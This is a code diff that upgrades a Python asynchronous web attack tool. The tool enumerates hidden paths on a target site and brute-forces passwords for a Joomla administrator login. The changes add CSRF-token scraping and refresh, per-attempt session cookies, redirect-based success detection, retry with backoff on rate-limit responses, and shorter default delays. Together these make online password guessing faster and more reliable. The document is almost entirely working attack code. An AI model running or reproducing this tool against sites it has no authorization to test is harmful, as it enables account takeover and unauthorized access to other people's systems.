@@ -1,25 +1,52 @@
 #!/usr/bin/env python3
 import argparse
 import asyncio
+import atexit
+import contextlib
 import json
 import logging
+import logging.handlers
 import os
+import queue
+import re
 import sys
+import time
 from dataclasses import dataclass
-from typing import AsyncGenerator, Dict, List, Optional, Tuple
+from functools import partial
+from typing import AsyncGenerator, Coroutine, Dict, Iterator, List, Mapping, Optional, TextIO, Tuple
 
 import aiohttp
 from bs4 import BeautifulSoup
-
-# Configure logging
+from yarl import URL
+
+try:
+    import ahocorasick
+except ImportError:  # Optional: fall back to a compiled regex
+    ahocorasick = None
+
+# pyahocorasick is usually built for str; a bytes build can scan bodies without decoding
+_AC_BYTES = ahocorasick is not None and not ahocorasick.unicode
+
+try:
+    import orjson
+except ImportError:  # Optional: fall back to the stdlib json module
+    orjson = None
+
+# Configure logging; records are written by a listener thread so file I/O never
+# blocks the event loop
+_log_queue = queue.Queue()
+_log_listener = logging.handlers.QueueListener(
+    _log_queue,
+    logging.FileHandler("web_bruter.log"),
+    logging.StreamHandler()
+)
 logging.basicConfig(
     level=logging.INFO,
     format="%(asctime)s - %(levelname)s - %(message)s",
-    handlers=[
-        logging.FileHandler("web_bruter.log"),
-        logging.StreamHandler()
-    ]
+    handlers=[logging.handlers.QueueHandler(_log_queue)]
 )
+_log_listener.start()
+atexit.register(_log_listener.stop)
 
 
 @dataclass
@@ -35,115 +62,346 @@ class BruteForceConfig:
     rate_limit_delay: float
 
 
+class TokenBucket:
+    """Request budget shared by all workers: `rate` tokens per second, at most `burst` saved."""
+
+    def __init__(self, rate: float, burst: int):
+        self.rate = rate
+        self.burst = burst
+        self._tokens = float(burst)
+        self._updated = time.monotonic()
+
+    async def acquire(self) -> None:
+        """Wait until a token is available and take it."""
+        while True:
+            now = time.monotonic()
+            self._tokens = min(self.burst, self._tokens + (now - self._updated) * self.rate)
+            self._updated = now
+            if self._tokens >= 1:
+                self._tokens -= 1
+                return
+            await asyncio.sleep((1 - self._tokens) / self.rate)
+
+
 class WebBruter:
+    # Success indicators are only searched for in the first _MAX_BODY bytes of a body
+    _MAX_BODY = 65536
+    # Statuses reported as found whatever the body contains
+    _INTERESTING = frozenset({200, 301, 302, 403})
+    # Transient failures are retried with exponential backoff
+    _RETRIES = 3
+    _RETRY_STATUSES = (429, 503)
+    _MAX_RETRY_DELAY = 60.0
+
     def __init__(self, config: BruteForceConfig):
         self.config = config
-        self.queue = asyncio.Queue()
+        self.queue = asyncio.Queue(maxsize=config.threads * 4)
         self.found_paths = []
         self.session = None
         self.stop_event = asyncio.Event()
+        self._tasks = []
         self.scanned_count = 0
+        # Plain string prefix: aiohttp requotes the joined URL, so already
+        # percent-encoded wordlist entries are sent as written
+        self._base = config.target_url.rstrip("/") + "/"
+        # Caps in-flight requests independently of how many workers are running
+        self._sem = asyncio.Semaphore(config.threads)
+        # Cleared once the target answers HEAD with 405
+        self._head_ok = True
+        # rate_limit_delay is the average spacing between requests across all workers
+        self._bucket = None
+        if config.rate_limit_delay > 0:
+            self._bucket = TokenBucket(1 / config.rate_limit_delay, config.threads)
+        self._automaton = self._build_automaton(config.success_indicators)
+        self._indicator_re = None
+        if self._automaton is None and config.success_indicators:
+            self._indicator_re = re.compile(
+                b"|".join(re.escape(ind.encode()) for ind in config.success_indicators)
+            )
+
+    @staticmethod
+    def _build_automaton(indicators: List[str]):
+        """Compile success indicators into an Aho-Corasick automaton, if available."""
+        if ahocorasick is None or not indicators:
+            return None
+        automaton = ahocorasick.Automaton()
+        for i, indicator in enumerate(indicators):
+            word = indicator.encode()
+            if not _AC_BYTES:
+                # latin-1 maps every byte to one code point, so bytes can be matched as str
+                word = word.decode("latin-1")
+            automaton.add_word(word, i)
+        automaton.make_automaton()
+        return automaton
+
+    def _has_indicator(self, content: bytes) -> bool:
+        """Check whether any success indicator occurs in a response body."""
+        if self._automaton is not None:
+            haystack = content if _AC_BYTES else content.decode("latin-1")
+            return next(self._automaton.iter(haystack), None) is not None
+        if self._indicator_re is not None:
+            return self._indicator_re.search(content) is not None
+        return False
+
+    @staticmethod
+    def _read_words(f: TextIO) -> Iterator[str]:
+        """Yield stripped, non-empty lines from f, splitting it in large blocks."""
+        tail = ""
+        for block in iter(partial(f.read, 1 << 20), ""):
+            lines = (tail + block).split("\n")
+            tail = lines.pop()  # Possibly incomplete; completed by the next block
+            yield from filter(None, map(str.strip, lines))
+        tail = tail.strip()
+        if tail:
+            yield tail
+
+    def dedup_key(self, word: str) -> str:
+        """Key identifying duplicate words; paths are compared as check_path requests them."""
+        return word.lstrip("/")
 
     async def load_wordlist(self) -> None:
-        """Load words from wordlist file into queue."""
+        """Stream words from wordlist file into queue, then signal workers to stop."""
+        extensions = self.config.extensions
+        # Hashes rather than strings keep memory low; a collision only skips one word
+        seen = set()
         try:
-            with open(self.config.wordlist_path, "r", encoding="utf-8", errors="ignore") as f:
-                for line in f:
-                    word = line.strip()
-                    if word:
-                        await self.queue.put(word)
-                        # Add variations with extensions
-                        if "." not in word and self.config.extensions:
-                            for ext in self.config.extensions:
-                                await self.queue.put(f"{word}{ext}")
+            with open(
+                    self.config.wordlist_path, "r", encoding="utf-8", errors="ignore",
+                    buffering=1 << 20
+            ) as f:
+                for word in self._read_words(f):
+                    candidates = [word]
+                    # Add variations with extensions
+                    if extensions and "." not in word:
+                        candidates.extend(f"{word}{ext}" for ext in extensions)
+                    for candidate in candidates:
+                        key = hash(self.dedup_key(candidate))
+                        if key in seen:
+                            continue
+                        seen.add(key)
+                        await self.queue.put(candidate)
         except Exception as e:
             logging.error(f"Failed to load wordlist: {e}")
             raise
-
-    async def init_session(self) -> None:
-        """Initialize aiohttp session."""
+        finally:
+            # One sentinel per worker; skipped when shutting down early
+            if not self.stop_event.is_set():
+                for _ in range(self.config.threads):
+                    await self.queue.put(None)
+
+    def create_session(
+            self, cookie_jar: Optional[aiohttp.abc.AbstractCookieJar] = None
+    ) -> aiohttp.ClientSession:
+        """Create the aiohttp session used for all requests."""
         timeout = aiohttp.ClientTimeout(total=30)
-        connector = aiohttp.TCPConnector(limit=self.config.threads)
-        self.session = aiohttp.ClientSession(
+        connector = aiohttp.TCPConnector(
+            limit=self.config.threads,
+            limit_per_host=self.config.threads,
+            ttl_dns_cache=300,
+            use_dns_cache=True,
+            enable_cleanup_closed=True
+        )
+        return aiohttp.ClientSession(
             connector=connector,
             timeout=timeout,
             cookies=self.config.cookies,
-            headers=self.config.headers
+            headers=self.config.headers,
+            cookie_jar=cookie_jar
         )
 
-    async def close_session(self) -> None:
-        """Close aiohttp session."""
-        if self.session:
-            await self.session.close()
+    async def prepare(self) -> None:
+        """Hook run once the session is open, before scanning starts."""
+
+    async def fetch(self, url: str) -> Tuple[int, Mapping[str, str], bytes]:
+        """Request url, returning status, headers and (capped) body if indicators are set."""
+        await self.throttle()
+        if self.config.success_indicators:
+            async with self._sem, self.session.get(url, allow_redirects=False) as response:
+                content = b""
+                if response.status not in self._INTERESTING:
+                    content = await self._read_capped(response)
+                return response.status, response.headers, content
+
+        if self._head_ok:
+            # Status alone decides, so don't transfer a body at all
+            async with self._sem, self.session.head(url, allow_redirects=False) as response:
+                if response.status != 405:
+                    return response.status, response.headers, b""
+            # Server refuses HEAD; use GET for this and every later path
+            self._head_ok = False
+            await self.throttle()
+
+        async with self._sem, self.session.get(url, allow_redirects=False) as response:
+            return response.status, response.headers, b""
+
+    async def _read_capped(self, response: aiohttp.ClientResponse) -> bytes:
+        """Read a response body up to _MAX_BODY bytes or EOF."""
+        # read(n) only returns what is already buffered, so keep reading until full
+        chunks = []
+        remaining = self._MAX_BODY
+        while remaining > 0:
+            chunk = await response.content.read(remaining)
+            if not chunk:
+                break
+            chunks.append(chunk)
+            remaining -= len(chunk)
+        return b"".join(chunks)
+
+    async def throttle(self) -> None:
+        """Wait for the shared rate limit to allow another request."""
+        if self._bucket is not None:
+            await self._bucket.acquire()
+
+    def _retry_delay(self, headers: Mapping[str, str], attempt: int) -> float:
+        """Seconds to wait before the next attempt, honouring Retry-After when present."""
+        delay = 2 ** attempt
+        try:
+            delay = float(headers.get("Retry-After", delay))
+        except ValueError:  # HTTP-date form; use the backoff instead
+            pass
+        return min(delay, self._MAX_RETRY_DELAY)
 
     async def check_path(self, path: str) -> Tuple[int, str]:
         """Check if path exists on target."""
-        url = f"{self.config.target_url.rstrip('/')}/{path.lstrip('/')}"
+        url = self._base + path.lstrip("/")
         try:
-            async with self.session.get(url, allow_redirects=False) as response:
-                self.scanned_count += 1
-                if self.scanned_count % 100 == 0:
-                    logging.info(f"Scanned {self.scanned_count} paths... Found {len(self.found_paths)}")
+            for attempt in range(self._RETRIES):
+                try:
+                    status, headers, content = await self.fetch(url)
+                except (aiohttp.ClientError, asyncio.TimeoutError) as e:
+                    logging.debug(f"Error checking {url} (attempt {attempt + 1}): {e}")
+                    delay = 2 ** attempt
+                else:
+                    if status not in self._RETRY_STATUSES:
+                        break
+                    delay = self._retry_delay(headers, attempt)
+                if attempt + 1 < self._RETRIES:
+                    await asyncio.sleep(delay)
+            else:
+                return 0, ""
 
-                content = await response.text()
-                if any(indicator in content for indicator in self.config.success_indicators):
-                    return response.status, url
+            self.scanned_count += 1
 
-                # Check for interesting responses
-                if response.status in {200, 301, 302, 403}:
-                    return response.status, url
+            # Check for interesting responses before scanning the body
+            if status in self._INTERESTING or self._has_indicator(content):
+                return status, url
 
-                return 0, ""
+            return 0, ""
         except Exception as e:
             logging.debug(f"Error checking {url}: {e}")
             return 0, ""
 
     async def worker(self) -> None:
         """Worker coroutine for brute forcing."""
-        while not self.queue.empty() and not self.stop_event.is_set():
+        while not self.stop_event.is_set():
             path = await self.queue.get()
-            status, url = await self.check_path(path)
-            if status > 0:
-                self.found_paths.append((status, url))
-                logging.info(f"[{status}] Found: {url}")
-            await asyncio.sleep(self.config.rate_limit_delay)
+            try:
+                if path is None:
+                    break
+                status, url = await self.check_path(path)
+                if status > 0:
+                    self.found_paths.append((status, url))
+                    logging.info(f"[{status}] Found: {url}")
+            finally:
+                self.queue.task_done()
+
+    def save_results(self, path: str) -> None:
+        """Write found paths to a JSON file."""
+        if orjson is not None:
+            with open(path, "wb") as f:
+                f.write(orjson.dumps(self.found_paths, option=orjson.OPT_INDENT_2))
+        else:
+            with open(path, "w") as f:
+                json.dump(self.found_paths, f, indent=2)
+
+    async def report_progress(self, interval: float = 2.0) -> None:
+        """Periodically log scan progress until stopped."""
+        while not self.stop_event.is_set():
+            await asyncio.sleep(interval)
+            logging.info(f"Scanned {self.scanned_count} words... Found {len(self.found_paths)}")
+
+    def background_jobs(self) -> List[Coroutine]:
+        """Coroutines to run alongside the workers; cancelled when the scan ends."""
+        return [self.report_progress()]
 
     async def run(self) -> None:
         """Main execution method."""
         try:
-            await self.init_session()
-            await self.load_wordlist()
-
-            # Start worker tasks
-            tasks = []
-            for _ in range(self.config.threads):
-                task = asyncio.create_task(self.worker())
-                tasks.append(task)
-
-            # Wait for completion or interrupt
-            try:
-                await asyncio.gather(*tasks)
-            except asyncio.CancelledError:
-                logging.info("Received interrupt, shutting down...")
-                self.stop_event.set()
-                await asyncio.gather(*tasks, return_exceptions=True)
+            async with self.create_session() as self.session:
+                await self.prepare()
+
+                # Start producer and worker tasks; workers consume while the wordlist streams in
+                producer = asyncio.create_task(self.load_wordlist())
+                helpers = [asyncio.create_task(job) for job in self.background_jobs()]
+                tasks = self._tasks
+                for _ in range(self.config.threads):
+                    task = asyncio.create_task(self.worker())
+                    tasks.append(task)
+
+                # Wait for completion or interrupt; workers may cancel each other on success
+                try:
+                    results = await asyncio.gather(*tasks, return_exceptions=True)
+                    for result in results:
+                        if (isinstance(result, BaseException)
+                                and not isinstance(result, asyncio.CancelledError)):
+                            raise result
+                except asyncio.CancelledError:
+                    logging.info("Received interrupt, shutting down...")
+                    self.stop_event.set()
+                    await asyncio.gather(*tasks, return_exceptions=True)
+                finally:
+                    # Producer may still be blocked on a full queue after an early stop
+                    self.stop_event.set()
+                    producer.cancel()
+                    for helper in helpers:
+                        helper.cancel()
+
+                # Surface wordlist errors; a producer cancelled mid-stream is expected
+                with contextlib.suppress(asyncio.CancelledError):
+                    await producer
 
             # Save results
             if self.found_paths:
-                with open("found_paths.json", "w") as f:
-                    json.dump(self.found_paths, f, indent=2)
+                self.save_results("found_paths.json")
                 logging.info(f"Saved {len(self.found_paths)} found paths to found_paths.json")
 
         finally:
-            await self.close_session()
+            # Give SSL transports time to close cleanly after the session is gone
+            await asyncio.sleep(0.25)
 
 
 class JoomlaBruter(WebBruter):
+    def __init__(self, config: BruteForceConfig):
+        super().__init__(config)
+        # Pre-auth cookies from the login page; each attempt starts from its own copy
+        self._form_cookies = dict(config.cookies)
+
+    def create_session(
+            self, cookie_jar: Optional[aiohttp.abc.AbstractCookieJar] = None
+    ) -> aiohttp.ClientSession:
+        """Create a session without a shared cookie jar.
+
+        A successful login must not authenticate the landing page fetched by
+        another in-flight attempt, so cookies are passed per request instead.
+        """
+        return super().create_session(cookie_jar or aiohttp.DummyCookieJar())
+
+    def dedup_key(self, word: str) -> str:
+        """Passwords are compared verbatim."""
+        return word
+
+    async def prepare(self) -> None:
+        """Fetch the login form's hidden fields before brute forcing."""
+        self.config.form_data.update(await self.detect_login_form())
+
     async def detect_login_form(self) -> Dict[str, str]:
         """Detect Joomla login form fields."""
         try:
-            async with self.session.get(self.config.target_url) as response:
-                soup = BeautifulSoup(await response.text(), "html.parser")
+            async with self.session.get(
+                    self.config.target_url, cookies=self.config.cookies
+            ) as response:
+                cookies = {**self.config.cookies, **_response_cookies(response)}
+                soup = BeautifulSoup(await response.text(), "lxml")
                 form = soup.find("form", {"name": "login"})
                 if not form:
                     raise ValueError("Login form not found")
@@ -152,11 +410,26 @@ class JoomlaBruter(WebBruter):
                     inp["name"]: inp.get("value", "")
                     for inp in form.find_all("input", type="hidden")
                 }
+                # The token is tied to this session, so keep its cookies alongside it
+                self._form_cookies = cookies
                 return hidden_fields
         except Exception as e:
             logging.error(f"Failed to detect login form: {e}")
             raise
 
+    async def refresh_form_token(self, interval: float = 300.0) -> None:
+        """Periodically re-read the login form so a rotated CSRF token is picked up."""
+        while not self.stop_event.is_set():
+            await asyncio.sleep(interval)
+            try:
+                self.config.form_data.update(await self.detect_login_form())
+            except Exception:
+                pass  # Already logged; keep using the previous token
+
+    def background_jobs(self) -> List[Coroutine]:
+        """Add the form token refresher to the base background jobs."""
+        return super().background_jobs() + [self.refresh_form_token()]
+
     async def brute_force_login(self, username: str, password: str) -> bool:
         """Attempt Joomla login with given credentials."""
         try:
@@ -168,29 +441,57 @@ class JoomlaBruter(WebBruter):
                 "option": "com_login"
             })
 
-            async with self.session.post(
+            cookies = self._form_cookies.copy()
+            await self.throttle()
+            async with self._sem, self.session.post(
                     self.config.target_url,
                     data=form_data,
-                    allow_redirects=True
+                    cookies=cookies,
+                    allow_redirects=False
             ) as response:
-                content = await response.text()
-                return any(
-                    indicator in content
-                    for indicator in self.config.success_indicators
-                )
+                self.scanned_count += 1
+                location = response.headers.get("Location")
+                if not 300 <= response.status < 400 or location is None:
+                    return self._has_indicator(await response.read())
+                # A successful login rotates the session cookie
+                cookies.update(_response_cookies(response))
+
+            # Joomla redirects after both outcomes; only the landing page tells them apart
+            landing_url = response.url.join(URL(location))
+            await self.throttle()
+            async with self._sem, self.session.get(
+                    landing_url,
+                    cookies=cookies,
+                    allow_redirects=False
+            ) as landing:
+                return self._has_indicator(await landing.read())
         except Exception as e:
             logging.debug(f"Login attempt failed for {username}:{password} - {e}")
             return False
 
     async def worker(self) -> None:
         """Worker coroutine for Joomla brute forcing."""
-        while not self.queue.empty() and not self.stop_event.is_set():
+        while not self.stop_event.is_set():
             password = await self.queue.get()
-            if await self.brute_force_login(self.config.form_data.get("username", "admin"), password):
-                self.found_paths.append(password)
-                logging.info(f"[!] Found valid password: {password}")
-                self.stop_event.set()  # Stop on first success
-            await asyncio.sleep(self.config.rate_limit_delay)
+            try:
+                if password is None or self.stop_event.is_set():
+                    break
+                username = self.config.form_data.get("username", "admin")
+                if await self.brute_force_login(username, password):
+                    self.found_paths.append(password)
+                    logging.info(f"[!] Found valid password: {password}")
+                    self.stop_event.set()  # Stop on first success
+                    # Cancel the other workers rather than let in-flight attempts finish
+                    for task in self._tasks:
+                        if task is not asyncio.current_task():
+                            task.cancel()
+            finally:
+                self.queue.task_done()
+
+
+def _response_cookies(response: aiohttp.ClientResponse) -> Dict[str, str]:
+    """Cookies set by a single response, as a plain name -> value mapping."""
+    return {name: morsel.value for name, morsel in response.cookies.items()}
 
 
 def load_config(config_file: str) -> BruteForceConfig:
@@ -212,7 +513,8 @@ async def main():
     dir_parser.add_argument("-e", "--extensions", nargs="+", default=[".php", ".html"], help="File extensions to try")
     dir_parser.add_argument("-c", "--cookies", help="Cookies JSON file")
     dir_parser.add_argument("-H", "--headers", help="Headers JSON file")
-    dir_parser.add_argument("-d", "--delay", type=float, default=0.1, help="Delay between requests")
+    dir_parser.add_argument("-d", "--delay", type=float, default=0.01,
+                            help="Average delay between requests across all threads")
 
     # Joomla brute force
     joomla_parser = subparsers.add_parser("joomla", help="Joomla brute force mode")
@@ -220,7 +522,8 @@ async def main():
     joomla_parser.add_argument("-u", "--username", default="admin", help="Username to test")
     joomla_parser.add_argument("-w", "--wordlist", required=True, help="Password wordlist file")
     joomla_parser.add_argument("-t", "--threads", type=int, default=5, help="Number of threads")
-    joomla_parser.add_argument("-d", "--delay", type=float, default=1.0, help="Delay between attempts")
+    joomla_parser.add_argument("-d", "--delay", type=float, default=0.2,
+                               help="Average delay between attempts across all threads")
     joomla_parser.add_argument("-i", "--indicators", nargs="+", default=["Control Panel"], help="Success indicators")
 
     args = parser.parse_args()
@@ -252,8 +555,6 @@ async def main():
                 rate_limit_delay=args.delay
             )
             bruter = JoomlaBruter(config)
-            await bruter.init_session()
-            config.form_data.update(await bruter.detect_login_form())
 
         await bruter.run()
 
@@ -266,4 +567,9 @@ async def main():
 
 
 if __name__ == "__main__":
+    try:
+        import uvloop
+        uvloop.install()
+    except ImportError:  # Optional: keep the default asyncio event loop
+        pass
     asyncio.run(main())